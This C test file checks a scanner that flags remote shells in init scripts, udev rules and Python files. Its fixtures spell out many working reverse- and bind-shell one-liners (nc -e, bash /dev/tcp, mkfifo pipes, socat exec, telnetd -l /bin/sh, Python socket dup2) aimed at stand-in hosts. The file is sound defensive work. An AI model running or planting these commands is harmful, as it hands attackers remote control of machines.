#include "harness.h"
#include "inspect/inspected.h"
#include "inspect/registry.h"

static struct inspected got;

/* The only row's kind and method; "" for none. */
static struct span kind(const char *path, const char *text)
{
	inspected_run(&got, &inspector_remote_shells, path, span_of_text(text));
	CHECK(got.outcome == DONE);
	CHECK(inspected_count(&got, EVIDENCE_REMOTE_SHELL) <= 1);
	return inspected_text(inspected_row(&got, EVIDENCE_REMOTE_SHELL, 0), REMOTE_SHELL_KIND);
}

static void check(const char *command, const char *want)
{
	char text[600];
	(void)snprintf(text, sizeof text, "#!/bin/sh\nmount -a\n%s\n", command);
	struct span found = kind("/etc/init.d/x", text);
	if (!span_equal_text(found, want))
		printf("# %s: %d rows, ran %d\n", command, (int)inspected_count(&got, EVIDENCE_REMOTE_SHELL), got.ran);
	CHECK_TEXT(found, want);
	if (want[0])
		CHECK_EQUAL(inspected_integer(inspected_row(&got, EVIDENCE_REMOTE_SHELL, 0), REMOTE_SHELL_LINE), 3);
	inspected_done(&got);
}

TEST(knows_shells_of_scripts)
{
	check("nc -l -p 4444 -e /bin/sh &", "bind shell");
	check("busybox nc -ll -p 9 -e ash", "bind shell");
	check("nc 192.0.2.1 4444 -e /bin/bash", "reverse shell");
	check("ncat --exec /bin/bash 192.0.2.1 443", "reverse shell");
	check("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "reverse shell");
	check("exec 5<>/dev/tcp/192.0.2.1/443; sh <&5 >&5", "reverse shell");
	check("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f", "reverse shell");
	check("socat TCP-LISTEN:2323,fork EXEC:/bin/sh,pty", "bind shell");
	check("socat exec:'bash -li' tcp:192.0.2.1:4444", "reverse shell");
	check("socat TCP-L:23,fork exec:\"busybox ash\",pty", "bind shell");
	check("telnetd -p 9999 -l /bin/sh", "bind shell");
	check("X=$(telnetd -l /bin/sh)", "bind shell");
	check("X=`telnetd -l /bin/sh`", "bind shell");
	/* A host of that name is no example of a manual. */
	check("nc evil.example.com 4444 -e /bin/sh", "reverse shell");
	check("dbclient -y -N -f -R 7000:localhost:22 a@b.example", "control client");
	check("echo 'Example: nc -l -p 9 -e /bin/sh'", "");
	check("ssh -f -N -R 2222:localhost:22 tunnel@192.0.2.1", "control client");
}

TEST(knows_shells_in_rules_of_udev)
{
	CHECK_TEXT(kind("/lib/udev/rules.d/9.rules", "KERNEL==\"sd*\", RUN+=\"/usr/sbin/telnetd -l /bin/sh\"\n"), "bind shell");
	inspected_done(&got);
}

TEST(gives_the_other_side)
{
	CHECK_TEXT(kind("/x.sh", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"), "reverse shell");
	CHECK_TEXT(inspected_text(inspected_row(&got, EVIDENCE_REMOTE_SHELL, 0), REMOTE_SHELL_PEER), "192.0.2.1:443");
	inspected_done(&got);
}

TEST(leaves_others_alone)
{
	check("nc -l -p 4444 > /tmp/file", "");
	check("nc -z 192.0.2.1 80", "");
	check("echo > /dev/tcp/192.0.2.1/80", "");
	check("exec 3<>/dev/tcp/192.0.2.1/80", "");
	check("# nc -l -p 4444 -e /bin/sh", "");
	check("socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080", "");
	check("telnetd -l /bin/login", "");
	check("ssh -L 8080:localhost:80 u@192.0.2.1", "");
	check("echo 'hello' | tee /tmp/sh", "");
}

TEST(knows_scripts_of_other_languages)
{
	CHECK_TEXT(kind("/usr/bin/x.py", "#!/usr/bin/python\nimport socket,os\ns=socket.socket()\ns.connect((h,1))\n"
					 "os.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')\n"), "reverse shell");
	inspected_done(&got);
	CHECK_TEXT(kind("/usr/bin/z.py", "#!/usr/bin/python3\nimport socket,subprocess\ns=socket.socket()\n"
					 "s.bind((\"\",1))\ns.listen()\n"
					 "c,a=s.accept()\nsubprocess.Popen([\"/bin/bash\"],stdin=c.fileno(),stdout=c.fileno())\n"), "bind shell");
	CHECK_TEXT(kind("/usr/lib/python3/dist-packages/x.py", "#!/usr/bin/python\ns=socket.socket()\nos.dup2(1,2)\n'sh'\n"), "");
	inspected_done(&got);
	CHECK_TEXT(kind("/usr/bin/y.py", "#!/usr/bin/python\ns=socket.socket()\ns.connect((h,1))\nprint('ssh')\n"), "");
	inspected_done(&got);
}

TEST(documents_do_nothing)
{
	CHECK_TEXT(kind("/usr/share/notes.txt", "to test, run\nnc -l -p 4444 -e /bin/sh\n"), "");
	inspected_done(&got);
}

TESTS(knows_shells_of_scripts, knows_shells_in_rules_of_udev, gives_the_other_side, leaves_others_alone,
      knows_scripts_of_other_languages, documents_do_nothing)
